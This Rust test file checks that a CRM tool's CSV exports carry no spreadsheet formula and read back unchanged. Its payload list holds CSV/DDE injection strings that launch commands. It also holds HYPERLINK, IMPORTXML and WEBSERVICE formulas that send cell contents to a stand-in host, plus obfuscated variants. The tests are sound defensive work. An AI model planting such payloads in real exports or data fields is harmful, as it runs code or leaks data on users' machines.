//! Exports start no formula and come back unchanged (RELIABILITY R20, SPEC R3): every file the page hands out, with
//! every payload, read by the real importer and compared cell by cell.

use std::ops::ControlFlow;

use proptest::prelude::*;
use trichterwerk::analysis::debt_ledger::LedgerConfig;
use trichterwerk::chart;
use trichterwerk::chart::export::TableLanguage;
use trichterwerk::demo;
use trichterwerk::import::Source;
use trichterwerk::import::source::Bytes;
use trichterwerk::job::debt_cleanup::CleanUpExport;
use trichterwerk::job::files::UnmatchedQuestion;
use trichterwerk::job::funnel::Scope;
use trichterwerk::job::funnel::records::{RecordSet, RecordsCsvQuestion, RecordsQuestion};
use trichterwerk::job::session::{OpenFiles, Origin};
use trichterwerk::job::{Ask, Session};
use trichterwerk::model::{Filter, Meaning, RecordKind, Table, Values};

/// What people put into CRM fields to run something on the machine of whoever opens the export, and what merely looks
/// like it.
const PAYLOADS: [&str; 40] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example?\"&A1,\"Klick\")",
    "=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x.example/\"&A1)",
    "=SUM(A1:A9)",
    "=DDE(\"cmd\";\"/C calc\";\"\")",
    "=-1",
    "=+1",
    "==1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+49 931 12345",
    "++1",
    "+",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "--1",
    "-2+3+cmd|' /C calc'!A0",
    "- Notiz mit Spiegelstrich",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@erwaehnung",
    "\t=1+1",
    "\t+1",
    " =1+1",
    "   @SUM(1)",
    "\u{a0}=1+1",
    "\u{2003}-1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "'=1+1",
    "''=1+1",
    "'",
    "'Ende",
    "%0A=1+1",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "x=1+1",
];

/// A payload as it is, behind a line end, behind a quote, in full-width letters.
fn variants(payload: &str) -> [String; 4] {
    let wide = |c: char| match c {
        '=' => '＝',
        '+' => '＋',
        '-' => '－',
        '@' => '＠',
        c => c,
    };
    [
        payload.to_owned(),
        format!("\n{payload}"),
        format!("\"{payload}\""),
        payload.chars().map(wide).collect(),
    ]
}

fn all_payloads() -> Vec<String> {
    PAYLOADS.iter().flat_map(|payload| variants(payload)).collect()
}

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

fn open(files: &[(&str, &str)]) -> Session {
    let source = |(name, text): &(&str, &str)| -> Box<dyn Source> {
        Box::new(Bytes::new(*name, text.as_bytes().to_vec()))
    };
    let sources = files.iter().map(source).collect();
    let mut session = Session::new();
    let question = OpenFiles::new(Origin::Files, demo::AS_OF);
    session.open(&question, sources, &mut |_| ControlFlow::Continue(())).unwrap();
    session
}

fn ask<Q: Ask>(session: &mut Session, question: Q) -> Q::Report {
    let mut go_on = |_| ControlFlow::Continue(());
    Q::report(session.answer(question.question(), Vec::new(), &mut go_on).unwrap()).unwrap()
}

fn table(session: &Session, of: RecordKind) -> &Table {
    let dataset = session.dataset().unwrap();
    match of {
        RecordKind::Deal => &dataset.deals.as_ref().unwrap().table,
        RecordKind::Contact => &dataset.contacts.as_ref().unwrap().table,
        RecordKind::Mailing => dataset.mailings.as_ref().unwrap(),
        RecordKind::Activity => &dataset.activities.as_ref().unwrap().table,
    }
}

/// Contacts without an e-mail address, which charges each of them, with a payload in the note and in the company.
fn contacts(payloads: &[String]) -> String {
    let mut csv = String::from(
        "\"Kontakt-ID\";\"Vorname\";\"Nachname\";\"Firma\";\"E-Mail-Adresse\";\"Notizen\";\"Kategorien\";\"Saldo\";\"Erstellt am\";\"=Formel\"\r\n",
    );
    for (at, payload) in payloads.iter().enumerate() {
        let payload = quoted(payload);
        csv += &format!(
            "\"K-{at}\";\"Anna\";\"Hobel{at}\";{payload};\"\";{payload};\"Kunde\";\"{}\";\"{:02}.02.2025\";\"a{at}\"\r\n",
            if at % 2 == 0 { format!("-{at},5") } else { format!("{at}") },
            at % 28 + 1,
        );
    }
    csv
}

/// Deals that are open and overdue, with negative amounts among them.
fn deals(payloads: &[String]) -> String {
    let mut csv = String::from(
        "\"Deal-ID\";\"Deal Name\";\"Stufe\";\"Betrag\";\"Erstellt am\";\"Nächste Aktivität am\";\"Notizen\"\r\n",
    );
    for (at, payload) in payloads.iter().enumerate() {
        let payload = quoted(payload);
        csv += &format!(
            "\"D-{at}\";{payload};\"{}\";\"{}1.{:03},50\";\"{:02}.02.2025\";\"{:02}.01.2025\";{payload}\r\n",
            ["Neu", "Angebot", "Verhandlung"][at % 3],
            if at % 4 == 0 { "-" } else { "" },
            at % 1_000,
            at % 28 + 1,
            at % 28 + 1,
        );
    }
    csv
}

/// A number as we write it: digits, one sign, one decimal mark.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = digits.split_once(['.', ',']).unwrap_or((digits, "0"));
    let all_digits = |text: &str| !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && all_digits(fraction)
}

/// Every cell of a file that a spreadsheet could take for a formula and that is no number of ours.
fn formulas(csv: &str) -> Vec<String> {
    let delimiter = if csv.starts_with('\u{feff}') { b';' } else { b',' };
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let is_formula = |cell: &&str| {
        // What spreadsheets and their importers pass over before they look: blanks, controls, quotes, marks.
        let bare = cell.trim_start_matches(|c: char| {
            c.is_whitespace() || c.is_control() || matches!(c, '"' | '\u{feff}' | '\u{200b}')
        });
        bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_number(cell)
    };
    let mut found = Vec::new();
    for row in reader.records() {
        found.extend(row.unwrap().iter().filter(is_formula).map(str::to_owned));
    }
    found
}

/// Every column of the file has its twin in the export, and every cell of a row its value.
fn assert_same_rows(read: &Table, known: &Table, row_of: impl Fn(usize) -> usize) {
    for column in &known.columns {
        let twin = read.columns.iter().find(|twin| twin.header == column.header);
        let twin = twin.unwrap_or_else(|| panic!("{} is gone", column.header));
        for row in 0..read.n_rows {
            let at = row_of(row);
            let told = format!("{} of row {at}", column.header);
            match (&twin.values, &column.values) {
                (Values::Date(a), Values::Date(b)) => assert_eq!(a.day(row), b.day(at), "{told}"),
                (Values::Money(a), Values::Money(b)) => assert_eq!(a.get(row), b.get(at), "{told}"),
                (Values::Number(a), Values::Number(b)) => {
                    assert_eq!(a.get(row), b.get(at), "{told}");
                }
                (a, b) => assert_eq!(a.text(row), b.text(at), "{told}"),
            }
        }
    }
}

fn row_by_id(read: &Table, known: &Table, row: usize) -> usize {
    let id = read.text(&Meaning::Id, row).unwrap();
    (0..known.n_rows).find(|at| known.text(&Meaning::Id, *at).as_ref() == Some(&id)).unwrap()
}

fn clean_up(of: RecordKind, is_german: bool) -> CleanUpExport {
    CleanUpExport {
        config: LedgerConfig::usual(),
        numbers: Vec::new(),
        of,
        is_german,
        headers: ["Platz", "Was fehlt", "€/Monat", "Minuten"].map(str::to_owned),
        words: Vec::new(),
    }
}

fn assert_clean_up_comes_back(session: &mut Session, of: RecordKind, n_rows: usize) {
    for is_german in [true, false] {
        let csv = ask(session, clean_up(of, is_german));
        assert_eq!(formulas(&csv), Vec::<String>::new());
        let again = open(&[("aufraeumen.csv", &csv)]);
        let (read, known) = (table(&again, of), table(session, of));
        assert_eq!(read.n_rows, n_rows);
        assert_same_rows(read, known, |row| row_by_id(read, known, row));
    }
}

#[test]
fn the_clean_up_list_of_contacts_carries_no_formula_and_comes_back() {
    let payloads = all_payloads();
    let mut session = open(&[("kontakte.csv", &contacts(&payloads))]);
    assert_clean_up_comes_back(&mut session, RecordKind::Contact, payloads.len());
}

#[test]
fn the_clean_up_list_of_deals_carries_no_formula_and_comes_back() {
    let payloads = all_payloads();
    let mut session = open(&[("chancen.csv", &deals(&payloads))]);
    assert_clean_up_comes_back(&mut session, RecordKind::Deal, payloads.len());
}

/// Records are handed out a page at a time; the pages in a row are one file.
#[test]
fn the_records_behind_a_bar_carry_no_formula_and_come_back() {
    let payloads = all_payloads();
    let mut session = open(&[("chancen.csv", &deals(&payloads))]);
    for is_german in [true, false] {
        let mut csv = String::new();
        for offset in (0..payloads.len()).step_by(50) {
            let (scope, set) = (Scope::usual(Filter::default()), RecordSet::All);
            let records = RecordsQuestion { scope, set, offset, limit: 50 };
            csv += &ask(&mut session, RecordsCsvQuestion { records, is_german }).text;
        }
        assert_eq!(formulas(&csv), Vec::<String>::new());
        let again = open(&[("chancen.csv", &csv)]);
        let read = table(&again, RecordKind::Deal);
        assert_eq!(read.n_rows, payloads.len());
        assert_same_rows(read, table(&session, RecordKind::Deal), |row| row);
        let amounts = read.money(&Meaning::Amount).unwrap();
        assert!(amounts.get(4).is_some_and(|amount| amount.0 < 0), "a negative amount is a number");
    }
}

#[test]
fn rows_without_a_partner_carry_no_formula_and_come_back() {
    let payloads = all_payloads();
    let mut mails = String::from(
        "\"E-Mail\";\"Versandt am\";\"Ergebnis\";\"Betreff\"\r\n\"a@x.de\";\"01.02.2025\";\"delivered\";\"Hallo\"\r\n",
    );
    for (at, payload) in payloads.iter().enumerate() {
        mails += &format!("\"m{at}@y.de\";\"13.02.2025\";\"delivered\";{}\r\n", quoted(payload));
    }
    let contacts = "Vorname;Nachname;E-Mail\r\nA;B;a@x.de\r\nC;D;c@x.de\r\n";
    let mut session = open(&[("kontakte.csv", contacts), ("versand.csv", &mails)]);
    for german in [true, false] {
        let (from, to) = (RecordKind::Mailing, RecordKind::Contact);
        let file = ask(&mut session, UnmatchedQuestion { from, to, german });
        let csv = String::from_utf8(file.0).unwrap();
        assert_eq!(formulas(&csv), Vec::<String>::new());
        let again = open(&[("ohne_partner.csv", &csv)]);
        let read = table(&again, RecordKind::Mailing);
        assert_eq!(read.n_rows, payloads.len());
        // The first row has its partner and is not in the file.
        assert_same_rows(read, table(&session, RecordKind::Mailing), |row| row + 1);
    }
}

/// Names stand in the tables of charts too; numbers there are numbers again.
#[test]
fn the_tables_of_charts_carry_no_formula() {
    let rows: Vec<Vec<String>> = all_payloads()
        .into_iter()
        .map(|payload| vec![payload.clone(), "-3,5\u{a0}%".into(), "-4.000\u{a0}€".into(), payload])
        .collect();
    let header = ["=Quelle", "Rate", "Betrag", "@Notiz"].map(str::to_owned).to_vec();
    let table = chart::Table { header, rows: rows.clone() };
    let csv = String::from_utf8(chart::export::csv(&table, TableLanguage::German)).unwrap();
    assert_eq!(formulas(&csv), Vec::<String>::new());
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    for (row, before) in reader.records().zip(&rows) {
        let row = row.unwrap();
        assert_eq!((&row[1], &row[2]), ("-0,035", "-4000"));
        let bare = trichterwerk::import::write::without_guard(&row[0]).unwrap_or(&row[0]);
        assert_eq!(bare, before[0]);
    }
}

/// What one cell reads as can be another cell that reads as something else.
#[test]
fn every_cell_is_read_for_itself_whatever_stands_before_it() {
    let cells = [("''=1", "'=1"), ("'=1", "=1"), ("=1", "=1"), ("\0'=1", "'=1"), ("\0\0", "")];
    for first in 0..cells.len() {
        let mut cells = cells;
        cells.rotate_left(first);
        for _ in 0..2 {
            cells.reverse();
            let written = cells.map(|(written, _)| written.to_owned());
            let session = open(&[("kontakte.csv", &contacts(&written))]);
            let read = table(&session, RecordKind::Contact);
            let company = read.columns.iter().find(|column| column.header == "Firma").unwrap();
            for (row, (_, text)) in cells.iter().enumerate() {
                let said = company.values.text(row).unwrap_or_default();
                assert_eq!(said, *text, "row {row} of {written:?}");
            }
            assert!(matches!(&company.values, Values::Dict(column) if column.words.len() == 2));
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    /// Whatever is put together from the letters that matter: no formula leaves, and everything comes back.
    #[test]
    fn no_text_leaves_as_a_formula_and_every_text_comes_back(
        payloads in prop::collection::vec("[=+@'\"\t\n\r ;,|a1＝－\u{a0}\u{feff}\u{200b}-]{1,8}x?", 1..12),
    ) {
        let mut session = open(&[("kontakte.csv", &contacts(&payloads))]);
        let n_rows = table(&session, RecordKind::Contact).n_rows;
        assert_clean_up_comes_back(&mut session, RecordKind::Contact, n_rows);
    }
}
